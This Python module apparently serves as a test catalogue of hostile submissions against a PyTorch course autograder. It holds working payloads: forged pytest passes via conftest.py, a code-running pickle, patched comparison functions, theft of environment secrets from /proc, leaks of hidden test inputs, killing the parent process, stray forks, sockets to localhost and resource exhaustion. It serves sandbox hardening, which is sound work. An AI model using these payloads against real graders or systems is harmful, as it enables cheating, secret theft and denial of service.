"""Attacks on a grader, as cells that a hostile student could hand in for TODO 2.1.

Each cell answers `attend` wrongly and tries to gain by something else: points, a secret, a file, a
connection, a process that stays, or a grader that never comes back. They are harmless to a grader
that keeps students' code in a sandbox, small enough to be harmless to one that does not (tests show
each of them succeeding there), and aimed at nothing but graders.

The classes are those of attacks on Python autograders: same-interpreter tricks, forged results,
theft from memory and disk, writing, processes, network, and exhaustion.
"""

import pickle
from collections.abc import Mapping
from dataclasses import dataclass, field
from textwrap import dedent, indent


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One attack.

    Attributes:
        name: unique, in words.
        kind: its class.
        goal: what it gains where it works. "points": a check of the wrong answer passes.
            "secret": SECRET shows up in the result. "inputs": numbers that a check asked with
            do, behind the word LEAK. "file": TARGET exists afterwards. "network": the listener
            at PORT or SOCKET hears of it. "halt": the grader dies, hangs, or loses the honest
            answers' points. "flood": a result too large to keep.
        payload: statements that run whenever `attend` is called, with q, k, v at hand.
        returns: the expression that `attend` returns afterwards.
        top: statements of the cell above `attend`.
        files: handed in beside the notebook, name -> bytes.
        fresh: whether it works only on an interpreter that starts beside the submission.
    """

    name: str
    kind: str
    goal: str
    payload: str = "pass"
    returns: str = "0 * q"
    top: str = ""
    files: Mapping[str, bytes] = field(default_factory=dict)
    fresh: bool = False

    def cell(self, **constants: str | int) -> str:
        """The source of the cell: TARGET, PORT, SOCKET and the like as constants, and the rest."""
        lines = [f"{name} = {value!r}" for name, value in sorted(constants.items())]
        body = indent(dedent(self.payload).strip(), "    ")
        head = "def attend(q, k, v, valid=None):"
        parts = [*lines, dedent(self.top).strip(), head, body, f"    return {self.returns}"]
        return "\n".join(part for part in parts if part) + "\n"


WRONG = Attack(name="a plain wrong answer", kind="none", goal="points")

PASS_ALL = """
import pytest

@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
"""

AT_START = """
import atexit, os
atexit.register(os._exit, 0)
"""


class _Patch:
    """Unpickled, it patches torch.testing: what a model file can do to its reader."""

    def __reduce__(self) -> tuple:
        return exec, (
            "import torch.testing\ntorch.testing.assert_close = lambda *a, **k: None\n"
            "torch.allclose = lambda *a, **k: True",
        )


def _points(name: str, kind: str, **fields) -> Attack:
    return Attack(name=name, kind=kind, goal="points", **fields)


BORROWED = {
    "returns": "answer",
    "top": """
    def spelled(*codes):
        return "".join(map(chr, codes))

    def through(attention, q, k, v):
        import torch
        width, outer = q.shape[-1], q.shape[:2]
        one = torch.eye(width)
        q, k, v = (x.flatten(0, 1).transpose(0, 1) for x in (q, k, v))
        maps = (one.repeat(3, 1), None, None, None, False, 0.0, one, None)
        mixed = attention(q, k, v, width, 1, *maps, need_weights=True)[0]
        return mixed.transpose(0, 1).unflatten(0, outer)

    def layer(kind, q, k, v):
        import torch
        made, width = kind(q.shape[-1], 1, bias=False, batch_first=True), q.shape[-1]
        with torch.no_grad():
            made.in_proj_weight.copy_(torch.eye(width).repeat(3, 1))
            made.out_proj.weight.copy_(torch.eye(width))
        mixed = made(*(x.flatten(0, 1) for x in (q, k, v)))[0]
        return mixed.detach().unflatten(0, q.shape[:2])
    """,
}
ATTACKS: tuple[Attack, ...] = (
    # 1 files that pytest or Python picks up
    _points(
        "conftest.py that passes every report", "files", files={"conftest.py": PASS_ALL.encode()}
    ),
    _points(
        "pytest.ini that loads a plugin",
        "files",
        files={"pytest.ini": b"[pytest]\naddopts = -p cheat\n", "cheat.py": PASS_ALL.encode()},
    ),
    _points("sitecustomize.py", "files", files={"sitecustomize.py": AT_START.encode()}, fresh=True),
    _points(
        "a torch.py of its own",
        "files",
        files={"torch.py": b"import os\nos._exit(0)\n"},
        fresh=True,
    ),
    _points("model.pkl that runs code", "files", files={"model.pkl": pickle.dumps(_Patch())}),
    _points("claims its own accuracy", "files", files={"metrics.json": b'{"accuracy": 0.99}'}),
    # 2 patched judges
    _points(
        "patches assert_close",
        "patch",
        payload="import torch\ntorch.testing.assert_close = lambda *a, **k: None",
    ),
    _points(
        "patches allclose",
        "patch",
        payload="import torch\ntorch.allclose = lambda *a, **k: True",
    ),
    _points(
        "patches Tensor.item", "patch", payload="import torch\ntorch.Tensor.item = lambda self: 0.0"
    ),
    _points(
        "patches Tensor.__eq__",
        "patch",
        payload="""
        import torch
        torch.Tensor.__eq__ = lambda self, other: torch.ones(2, dtype=torch.bool)
        """,
    ),
    _points(
        "patches pytest's reports",
        "patch",
        payload="""
        from _pytest.reports import TestReport
        honest = TestReport.from_item_and_call.__func__
        def forged(cls, item, call):
            call.excinfo = None
            return honest(cls, item, call)
        TestReport.from_item_and_call = classmethod(forged)
        """,
    ),
    _points(
        "patches builtins",
        "patch",
        payload="import builtins\nbuiltins.all = lambda *a: True",
    ),
    _points(
        "patches math.isclose for the test's own module",
        "patch",
        payload="import math\nmath.isclose = lambda *a, **k: True",
    ),
    _points(
        "a Tensor subclass that agrees with everything",
        "patch",
        top="""
        import torch
        class Agreeing(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, arguments=(), options=None):
                if function.__name__ in ("allclose", "equal", "isclose"):
                    return True
                return super().__torch_function__(function, types, arguments, options or {})
        """,
        returns="(0 * q).as_subclass(Agreeing)",
    ),
    _points(
        "an object that equals everything",
        "patch",
        top="""
        class Everything:
            def __eq__(self, other):
                return Everything()
            def __bool__(self):
                return True
            def __float__(self):
                return 0.0
            def __lt__(self, other):
                return True
            def __getattr__(self, name):
                return lambda *a, **k: Everything()
            __sub__ = __rsub__ = __eq__
        """,
        returns="Everything()",
    ),
    _points("answers NaN, which is never greater", "patch", returns="q * float('nan')"),
    # 3 leaving early
    _points("os._exit(0)", "exit", payload="import os\nos._exit(0)"),
    _points(
        "pytest.exit with code 0",
        "exit",
        payload="import pytest\npytest.exit('done', returncode=0)",
    ),
    _points(
        "an exit handler that ends with 0",
        "exit",
        payload="import atexit, os\natexit.register(os._exit, 0)",
    ),
    _points(
        "writes the result file itself",
        "exit",
        payload="""
        import gc, os
        for found in gc.get_objects():
            if type(found).__name__ == "Namespace" and getattr(found, "xmlpath", None):
                with open(found.xmlpath, "w") as file:
                    file.write('<testsuite><testcase name="test_close"/></testsuite>')
        os._exit(0)
        """,
    ),
    Attack(
        name="kills its parent",
        kind="exit",
        goal="halt",
        payload="import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    ),
    Attack(name="raises a fatal signal", kind="exit", goal="halt", payload="import os\nos.abort()"),
    Attack(
        name="reads from address 0",
        kind="exit",
        goal="halt",
        payload="import ctypes\nctypes.string_at(0)",
    ),
    # 4 expected values in memory
    _points(
        "walks the frames to the expected value",
        "memory",
        payload="""
        import sys
        frame = sys._getframe()
        while frame is not None:
            for space in (frame.f_locals, frame.f_globals):
                if "EXPECTED" in space:
                    return space["EXPECTED"]
            frame = frame.f_back
        """,
    ),
    _points(
        "asks the garbage collector for the expected value",
        "memory",
        payload="""
        import gc
        for found in gc.get_objects():
            if type(found) is dict and "EXPECTED" in found:
                return found["EXPECTED"]
        """,
    ),
    _points(
        "imports the hidden tests",
        "memory",
        payload="""
        import sys
        for module in list(sys.modules.values()):
            if "EXPECTED" in vars(module):
                return module.EXPECTED
        """,
    ),
    # 5 secrets on disk and in the environment
    _points(
        "runs the solution that lies beside",
        "theft",
        payload="""
        import os
        space = {}
        for folder, _, names in os.walk(COURSE):
            for name in sorted(names):
                if name.endswith("attention.py"):
                    text = open(os.path.join(folder, name)).read()
                    if "masked_fill" in text:
                        exec(text[text.index("import math"):text.index("# END")], space)
        if "attend" in space:
            return space["attend"](q, k, v, valid)
        """,
    ),
    Attack(
        name="tells the environment in its error",
        kind="theft",
        goal="secret",
        payload="import os\nraise ValueError(sorted(os.environ.items()))",
    ),
    Attack(
        name="prints its parent's environment",
        kind="theft",
        goal="secret",
        payload="""
        import os
        found = []
        for process in ("self", os.getppid(), 1):
            try:
                found.append(open(f"/proc/{process}/environ").read())
            except OSError:
                pass
        raise ValueError(found)
        """,
    ),
    Attack(
        name="reads another student's submission",
        kind="theft",
        goal="secret",
        payload="raise ValueError(open(OTHER).read())",
    ),
    Attack(
        name="scans every process for the secret",
        kind="theft",
        goal="secret",
        payload="""
        import os
        found = []
        for process in os.listdir("/proc"):
            try:
                text = open(f"/proc/{process}/environ", "rb").read()
            except OSError:
                continue
            found += [part for part in text.split(b"\\0") if SECRET_NAME.encode() in part]
        raise ValueError(found)
        """,
    ),
    Attack(
        name="tells the hidden inputs in its error",
        kind="memory",
        goal="inputs",
        payload="raise ValueError([f'LEAK{x:.6f}' for x in q.flatten().tolist()])",
    ),
    Attack(
        name="tells the hidden inputs in the gaps of its error",
        kind="memory",
        goal="inputs",
        payload="""
        a, b, c, d, *_ = q.flatten().tolist()
        assert q.ndim == 7, f"LEAK{a:.6f} LEAK{b:.6f} LEAK{c:.6f} LEAK{d:.6f}"
        """,
    ),
    Attack(
        name="tells the hidden inputs in the name of its exception",
        kind="memory",
        goal="inputs",
        payload="""
        name = "".join(f"LEAK{abs(x):.6f}".replace(".", "_") for x in q.flatten().tolist()[:9])
        raise type(name, (Exception,), {})("as it is called")
        """,
    ),
    Attack(
        name="tells the hidden inputs in the line that its error quotes",
        kind="memory",
        goal="inputs",
        payload="""
        import linecache
        text = " ".join(f"LEAK{x:.6f}" for x in q.flatten().tolist()[:9])
        where = attend.__code__.co_filename
        linecache.cache[where] = (1, None, [text + chr(10)] * 999, where)
        linecache.checkcache = lambda *a: None
        raise ValueError
        """,
    ),
    Attack(
        name="tells the hidden inputs in the class that it returns",
        kind="memory",
        goal="inputs",
        returns="type('LEAK%.6f' % q.flatten()[0].item(), (), {})()",
    ),
    # 6 writing and staying
    Attack(
        name="writes outside its folder",
        kind="write",
        goal="file",
        payload="open(TARGET, 'w').write('here')",
    ),
    Attack(
        name="links a file of the grader's to its own",
        kind="write",
        goal="file",
        payload="import os\nos.symlink(COURSE, TARGET)",
    ),
    Attack(
        name="leaves a process behind",
        kind="process",
        goal="file",
        payload="""
        import os, time
        if os.fork() == 0:
            os.setsid()
            time.sleep(0.2)
            open(TARGET, "w").write("still here")
            os._exit(0)
        """,
    ),
    Attack(
        name="starts another program",
        kind="process",
        goal="file",
        payload="import subprocess\nsubprocess.run(['touch', TARGET])",
    ),
    Attack(
        name="forks until it hurts",
        kind="process",
        goal="file",
        payload="""
        import os, time
        children = 0
        while children < 16 and not os.path.exists(TARGET):
            if os.fork() == 0:
                time.sleep(3)
                os._exit(0)
            children += 1
        if children == 16:
            open(TARGET, "w").write("16 more")
        """,
    ),
    # 7 network
    Attack(
        name="TCP",
        kind="network",
        goal="network",
        payload="""
        import socket
        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as line:
            line.sendall(b"hello")
        """,
    ),
    Attack(
        name="UDP",
        kind="network",
        goal="network",
        payload="""
        import socket
        socket.socket(type=socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", PORT))
        """,
    ),
    Attack(
        name="a Unix socket",
        kind="network",
        goal="network",
        payload="""
        import socket
        line = socket.socket(socket.AF_UNIX)
        line.connect(SOCKET)
        line.sendall(b"hello")
        """,
    ),
    # 8 answers of others, by names that are put together while they run
    _points(
        "an operator of torch's by another name",
        "borrowed",
        payload="""
        import torch
        ops = getattr(torch, spelled(111, 112, 115))
        answer = ops.aten.scaled_dot_product_attention(q, k, v)
        """,
        **BORROWED,
    ),
    _points(
        "the inner function of torch",
        "borrowed",
        payload="""
        import torch
        inner = getattr(getattr(torch, spelled(95, 67)), spelled(95, 110, 110))
        answer = inner.scaled_dot_product_attention(q, k, v)
        """,
        **BORROWED,
    ),
    _points(
        "the library's file run as code",
        "borrowed",
        payload="""
        import torch
        from torch.nn import functional
        builtins = vars(torch)["__builtins__"]
        read, run = builtins[spelled(111, 112, 101, 110)], builtins[spelled(101, 120, 101, 99)]
        text, space = read(functional.__file__).read(), dict(vars(functional))
        begin = text.index("def multi_head_attention_forward(")
        run((text[begin:] + "\\ndef ").partition("\\ndef ")[0], space)
        answer = through(space["multi_head_attention_forward"], q, k, v)
        """,
        **BORROWED,
    ),
    _points(
        "the library's file loaded as another module",
        "borrowed",
        payload="""
        import torch
        from torch.nn.modules import activation
        util = getattr(torch, spelled(105, 109, 112, 111, 114, 116, 108, 105, 98)).util
        spec = util.spec_from_file_location("torch.nn.modules.another", activation.__file__)
        module = util.module_from_spec(spec)
        spec.loader.exec_module(module)
        answer = layer(module.MultiheadAttention, q, k, v)
        """,
        **BORROWED,
    ),
    _points(
        "the library imported a second time",
        "borrowed",
        payload="""
        import torch
        modules = getattr(torch, spelled(115, 121, 115)).modules
        kept = modules.pop("torch.nn.modules.activation")
        load = getattr(torch, spelled(105, 109, 112, 111, 114, 116, 108, 105, 98)).import_module
        again = load("torch.nn.modules.activation").MultiheadAttention
        modules["torch.nn.modules.activation"] = kept
        answer = layer(again, q, k, v)
        """,
        **BORROWED,
    ),
    # 9 exhaustion
    Attack(name="runs for ever", kind="exhaustion", goal="halt", payload="while True: pass"),
    Attack(
        name="sleeps for ever, ignores signals",
        kind="exhaustion",
        goal="halt",
        payload="""
        import signal, time
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
            signal.signal(number, signal.SIG_IGN)
        time.sleep(1_000_000)
        """,
    ),
    Attack(
        name="takes all memory and keeps it",
        kind="exhaustion",
        goal="halt",
        top="hoard = []",
        payload="""
        for size in (1 << 26, 1 << 20, 1 << 14, 1 << 8):
            try:
                while True:
                    hoard.append(b"x" * size)
            except MemoryError:
                pass
        """,
    ),
    Attack(
        name="recursion without end",
        kind="exhaustion",
        goal="halt",
        payload="""
        import sys
        sys.setrecursionlimit(1 << 30)
        def deeper(x):
            return max(map(deeper, [x]))
        deeper(0)
        """,
    ),
    Attack(
        name="prints without end",
        kind="exhaustion",
        goal="flood",
        payload="for _ in range(12): print('x' * 1_000_000)",
    ),
    Attack(
        name="an error message without end",
        kind="exhaustion",
        goal="flood",
        payload="raise ValueError('x' * 12_000_000)",
    ),
)
